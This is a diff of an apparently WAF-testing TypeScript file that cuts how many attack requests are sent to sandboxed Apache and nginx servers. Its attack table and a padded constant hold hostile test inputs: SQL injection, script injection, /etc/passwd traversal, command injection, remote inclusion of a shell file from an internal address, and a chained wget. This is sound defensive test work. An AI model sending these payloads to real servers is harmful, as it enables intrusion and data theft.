@@ -7,18 +7,18 @@ import { APACHE, NGINX, startApache, startNginx, startRelay, type WebServer } fr
 
 /** Requests of each category, and how many; `n` makes them differ. */
 const ATTACKS: Record<string, { times: number; request(n: number): Request & { path: string } }> = {
-  sqli: { times: 30, request: (n) => ({ path: `/?id=${n}%27%20OR%20%271%27=%271%27--%20-` }) },
-  xss: { times: 25, request: (n) => ({ path: `/?q=%3Cscript%3Ealert(${n})%3C/script%3E` }) },
-  lfi: { times: 20, request: (n) => ({ path: `/?page=../../../../etc/passwd&n=${n}` }) },
-  cmdi: { times: 20, request: (n) => ({ path: `/?x=$(id);%20cat%20/etc/hosts&n=${n}` }) },
-  rfi: { times: 15, request: (n) => ({ path: `/?file=http://10.1.2.3/shell.txt&n=${n}` }) },
-  robot: { times: 15, request: (n) => ({ path: `/?n=${n}`, headers: { 'User-Agent': 'Nikto/2.1.5' } }) },
-  custom: { times: 10, request: (n) => ({ path: `/own-rule?n=${n}` }) },
-  illegal: { times: 10, request: (n) => ({ path: `/?n=${n}`, method: 'DELETE' }) },
-  vuln: { times: 5, request: (n) => ({ path: `/?n=${n}&x=%0d%0aSet-Cookie:%20a=b` }) },
+  sqli: { times: 8, request: (n) => ({ path: `/?id=${n}%27%20OR%20%271%27=%271%27--%20-` }) },
+  xss: { times: 6, request: (n) => ({ path: `/?q=%3Cscript%3Ealert(${n})%3C/script%3E` }) },
+  lfi: { times: 5, request: (n) => ({ path: `/?page=../../../../etc/passwd&n=${n}` }) },
+  cmdi: { times: 5, request: (n) => ({ path: `/?x=$(id);%20cat%20/etc/hosts&n=${n}` }) },
+  rfi: { times: 4, request: (n) => ({ path: `/?file=http://10.1.2.3/shell.txt&n=${n}` }) },
+  robot: { times: 4, request: (n) => ({ path: `/?n=${n}`, headers: { 'User-Agent': 'Nikto/2.1.5' } }) },
+  custom: { times: 3, request: (n) => ({ path: `/own-rule?n=${n}` }) },
+  illegal: { times: 3, request: (n) => ({ path: `/?n=${n}`, method: 'DELETE' }) },
+  vuln: { times: 2, request: (n) => ({ path: `/?n=${n}&x=%0d%0aSet-Cookie:%20a=b` }) },
 };
 const ATTACK_COUNT = Object.values(ATTACKS).reduce((total, { times }) => total + times, 0);
-const REQUEST_COUNT = 400;
+const REQUEST_COUNT = 100;
 const HOSTS = ['shop.example.com', 'www.example.com'];
 
 const sandbox = new Sandbox();
@@ -98,7 +98,7 @@ async function expectSentCounts(api: Api, since: number, more: Distribution = {}
 
 /** A name so long that ModSecurity 2 and nginx cut the messages about it before they name the rule. */
 const PADDED = `/?;cat%20/etc/hosts;echo%20${'A'.repeat(500)};wget%20http://x/${'A'.repeat(500)}=1`;
-const BLOCKED_COUNT = 50;
+const BLOCKED_COUNT = 15;
 
 async function sendMany(address: string, path: string): Promise<void> {
   for (let n = 0; n < BLOCKED_COUNT; n += 5) {
